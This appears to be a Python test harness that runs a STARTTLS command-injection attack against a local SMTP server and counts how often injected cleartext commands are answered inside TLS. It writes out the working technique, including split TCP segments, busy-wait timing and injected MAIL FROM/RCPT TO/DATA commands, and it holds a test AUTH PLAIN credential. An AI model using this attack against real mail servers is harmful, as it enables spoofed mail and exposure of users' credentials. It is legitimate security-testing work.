#!/usr/bin/python3
"""starttls-split.py [-n TRIES] [-s SECONDS] [-a AUTHLINE] PORT CAFILE

The STARTTLS injection attack as an attacker in the path runs it, TRIES
times (default 200) against the server on 127.0.0.1:PORT, one connection
after the other, and for at most SECONDS in all (default 120):

  1. EHLO, then "STARTTLS\\r\\n" alone in one TCP segment (TCP_NODELAY);
  2. a random pause of 0.1 to 0.8 ms (busy-waited: sleep is too coarse);
  3. a second segment in the clear, alternately
       mail:  EHLO mitm.example, MAIL FROM:<a@evil.example>,
              RCPT TO:<victim@example.net>, DATA
       noop:  NOOP
  4. the TLS handshake (the certificate checked against CAFILE for
     "localhost"), then what the victim sends: EHLO, and after its reply
     AUTHLINE (default "AUTH PLAIN" for alice/wonderland) on the mail
     tries or NOOP on the noop tries, then QUIT.

Inside TLS the server must answer exactly the victim's three commands:
a multi-line 250 to EHLO, then the AUTH reply (never 250 or 354: 250
2.1.0 would be the injected MAIL's) or 250 2.0.0 to NOOP, then 221.
Each try is one of

  clean      TLS, and exactly those replies
  tlsfailed  the handshake failed, or the connection broke before the
             victim's EHLO went out (cleartext that reached the wrapper
             after the server stopped reading it breaks the handshake)
  injected   an injected command was answered, in the clear after the
             220 or inside TLS: 354, 250 2.1.0, 250 2.1.5, a reply too many
  other      anything else (no 220, a reply missing, a timeout)

Prints one line per try that is not clean ("try N VARIANT OUTCOME:
detail"), then "tries N clean N tlsfailed N injected N other N".  Exit
0 whatever happened: the caller reads the counts.  Standard library only.
"""
import getopt
import random
import socket
import ssl
import sys
import time

INJECT = {
    "mail": (b"EHLO mitm.example\r\nMAIL FROM:<a@evil.example>\r\n"
             b"RCPT TO:<victim@example.net>\r\nDATA\r\n"),
    "noop": b"NOOP\r\n",
}


class Outcome(Exception):
    def __init__(self, kind, detail):
        Exception.__init__(self, detail)
        self.kind, self.detail = kind, detail


def read_reply(sock, deadline):
    """One whole reply as a list of lines (without CRLF); [] at EOF or
    on a timeout."""
    data = b""
    got = []
    while True:
        while b"\r\n" in data:
            line, data = data.split(b"\r\n", 1)
            got.append(line.decode("latin-1"))
            if len(line) >= 4 and line[3:4] == b" ":
                return got
        left = deadline - time.monotonic()
        if left <= 0:
            return []
        sock.settimeout(left)
        try:
            chunk = sock.recv(1)       # one octet: never read past a reply
        except (socket.timeout, ssl.SSLError, OSError):
            return []
        if not chunk:
            return []
        data += chunk


def send(sock, data, kind="other"):
    try:
        sock.sendall(data)
    except (ssl.SSLError, OSError) as e:
        raise Outcome(kind, "writing %r: %s" % (data[:20], e))


def injected_reply(reply):
    last = reply[-1] if reply else ""
    return (last.startswith("354") or last.startswith("250 2.1.0")
            or last.startswith("250 2.1.5"))


def pause(lo_ms, hi_ms):
    end = time.perf_counter() + random.uniform(lo_ms, hi_ms) / 1000.0
    while time.perf_counter() < end:
        pass


def one_try(port, cafile, variant, authline, ctx):
    deadline = time.monotonic() + 5
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    try:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if not read_reply(sock, deadline):
            raise Outcome("other", "no greeting")
        send(sock, b"EHLO client.example\r\n")
        if not read_reply(sock, deadline):
            raise Outcome("other", "no EHLO reply")
        send(sock, b"STARTTLS\r\n")
        pause(0.1, 0.8)
        send(sock, INJECT[variant])
        reply = read_reply(sock, deadline)
        if not reply or not reply[-1].startswith("220 "):
            if injected_reply(reply):
                raise Outcome("injected", "in the clear: %r" % reply)
            raise Outcome("other", "STARTTLS got %r" % reply)
        try:
            tls = ctx.wrap_socket(sock, server_hostname="localhost")
        except (ssl.SSLError, OSError) as e:
            raise Outcome("tlsfailed", str(e))
        sock = tls
        # (a wrapper that failed the handshake on injected cleartext may
        # have closed the connection: the client can learn it only here)
        send(tls, b"EHLO victim.example\r\n", "tlsfailed")
        reply = read_reply(tls, deadline)
        if injected_reply(reply) or reply[:1] == ["250 2.0.0 OK"]:
            # (a one-line 250 2.0.0 is the answer to an injected NOOP)
            raise Outcome("injected", "first reply in TLS: %r" % reply)
        if len(reply) < 2 or not reply[-1].startswith("250 "):
            raise Outcome("other", "EHLO got %r" % reply)
        if variant == "mail":
            send(tls, authline + b"\r\n")
        else:
            send(tls, b"NOOP\r\n")
        reply = read_reply(tls, deadline)
        if injected_reply(reply) or len(reply) != 1:
            raise Outcome("injected", "second reply in TLS: %r" % reply)
        if variant == "noop" and not reply[0].startswith("250 2.0.0"):
            raise Outcome("other", "NOOP got %r" % reply)
        if variant == "mail" and (reply[0][:1] not in ("2", "5")
                                  or reply[0].startswith("250")):
            raise Outcome("other", "AUTH got %r" % reply)
        send(tls, b"QUIT\r\n")
        reply = read_reply(tls, deadline)
        if len(reply) != 1 or not reply[0].startswith("221 "):
            if reply:
                raise Outcome("injected", "third reply in TLS: %r" % reply)
            raise Outcome("other", "QUIT got no reply")
        more = read_reply(tls, deadline)
        if more:
            raise Outcome("injected", "after 221: %r" % more)
        return "clean", ""
    except Outcome as o:
        return o.kind, o.detail
    finally:
        sock.close()


def main():
    tries, seconds = 200, 120.0
    authline = b"AUTH PLAIN AGFsaWNlAHdvbmRlcmxhbmQ="
    opts, args = getopt.getopt(sys.argv[1:], "n:s:a:")
    for o, a in opts:
        if o == "-n":
            tries = int(a)
        elif o == "-s":
            seconds = float(a)
        else:
            authline = a.encode()
    port, cafile = int(args[0]), args[1]
    ctx = ssl.create_default_context(cafile=cafile)
    count = {"clean": 0, "tlsfailed": 0, "injected": 0, "other": 0}
    stop = time.monotonic() + seconds
    done = 0
    for i in range(tries):
        if time.monotonic() > stop:
            break
        variant = "mail" if i % 2 == 0 else "noop"
        try:
            kind, detail = one_try(port, cafile, variant, authline, ctx)
        except OSError as e:
            kind, detail = "other", "connect: %s" % e
        count[kind] += 1
        done += 1
        if kind != "clean":
            print("try %d %s %s: %s" % (i + 1, variant, kind, detail))
            sys.stdout.flush()
    print("tries %d clean %d tlsfailed %d injected %d other %d" % (
        done, count["clean"], count["tlsfailed"], count["injected"],
        count["other"]))


if __name__ == "__main__":
    main()
